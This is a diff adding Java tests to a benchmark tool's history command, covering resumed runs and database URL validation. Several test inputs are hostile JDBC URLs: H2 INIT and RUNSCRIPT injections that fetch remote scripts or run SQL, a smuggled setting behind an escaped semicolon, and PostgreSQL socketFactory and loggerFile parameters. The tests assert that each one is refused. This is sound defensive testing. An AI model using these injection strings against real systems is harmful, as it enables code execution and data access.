@@ -1,9 +1,12 @@
 package io.poolbench.cli.report;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.poolbench.cli.Cli;
 import io.poolbench.cli.Golden;
+import io.poolbench.reports.history.Database;
+import io.poolbench.reports.model.InputException;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -126,6 +129,28 @@ final class HistoryCommandTest {
     assertThat(Cli.run("history", "--database", url, "--format", "json").output()).isEqualTo(shown);
   }
 
+  /** The run as it was before its last fork, which stands on the last line. */
+  @ParameterizedTest
+  @MethodSource("databases")
+  void aRunThatWasResumedIsTheSameRun(String url) throws Exception {
+    clear(url);
+    Path partial = Files.createDirectories(folder.resolve("partial"));
+    Files.copy(Path.of(RUN, "run.json"), partial.resolve("run.json"));
+    List<String> lines = Files.readAllLines(Path.of(RUN, "benchmarks.txt"));
+    Files.write(partial.resolve("benchmarks.txt"), lines.subList(0, lines.size() - 1));
+
+    Cli first = Cli.run("history", "add", "--database", url, partial.toString());
+    assertThat(first.output()).contains(": added, ");
+    assertThat(Cli.run("history", "add", "--database", url, RUN).output())
+        .contains(": replaces what was there of this run, ");
+    assertThat(Cli.run("history", "add", "--database", url, partial.toString()).output())
+        .contains(": there already, ");
+    String shown = Cli.run("history", "--database", url, "--format", "json").output();
+    clear(url);
+    Cli.run("history", "add", "--database", url, RUN);
+    assertThat(Cli.run("history", "--database", url, "--format", "json").output()).isEqualTo(shown);
+  }
+
   @ParameterizedTest
   @MethodSource("databases")
   void whoeverAddsAtTheSameTimeAddsOnce(String url) throws Exception {
@@ -190,6 +215,41 @@ final class HistoryCommandTest {
           .contains("set PGUSER and PGPASSWORD")
           .doesNotContain("password=");
     }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "jdbc:h2:mem:x;INIT=CREATE TABLE PWNED(X INT)",
+        "jdbc:h2:./x;init=RUNSCRIPT FROM 'http://h/x'",
+        "jdbc:h2:./x;USER=a\\;INIT=SELECT 1",
+        "jdbc:h2:tcp://h/x",
+        "jdbc:h2:zip:/etc/x.zip!/x",
+        "jdbc:postgresql://h/x?socketFactory=a.B&socketFactoryArg=secret",
+        "jdbc:postgresql://h/x?loggerFile=/tmp/secret",
+        "jdbc:postgresql://h/x?user=u&password=secret&sslfactory=a.B"
+      })
+  void whatADatabaseUrlCouldRunIsRefused(String url) throws Exception {
+    assertRefused(Cli.run("history", "--database", url), "jdbc:");
+    assertRefused(Cli.run("history", "add", "--database", url, RUN), "jdbc:");
+  }
+
+  @Test
+  void messagesOfDriversAreToldWithoutPasswords() {
+    for (String url :
+        List.of(
+            "jdbc:postgresql://h:bad/x?user=u&password=secret",
+            "jdbc:postgresql://u:secret@h:bad/x",
+            "jdbc:postgresql://u:se/secret@127.0.0.1:1/x")) {
+      assertRefused(Cli.run("history", "--database", url), "expected a database");
+    }
+  }
+
+  @Test
+  void aPathThatH2WouldReadSettingsInIsRefused() {
+    assertThatThrownBy(() -> Database.in(folder.resolve("q;INIT=CREATE TABLE PWNED(X INT)--/h")))
+        .isInstanceOf(InputException.class)
+        .hasMessageContaining("a path with ';', behind which H2 reads settings");
   }
 
   @Test
